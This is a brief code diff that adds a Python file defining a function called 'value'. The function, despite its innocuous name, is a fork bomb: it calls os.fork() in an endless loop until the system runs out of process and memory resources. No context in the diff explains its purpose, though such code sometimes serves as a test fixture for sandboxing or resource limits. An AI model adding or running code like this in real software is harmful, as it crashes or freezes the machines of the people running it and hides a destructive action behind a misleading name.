@@ -1,0 +1,6 @@
+import os
+
+
+def value():
+    while True:
+        os.fork()
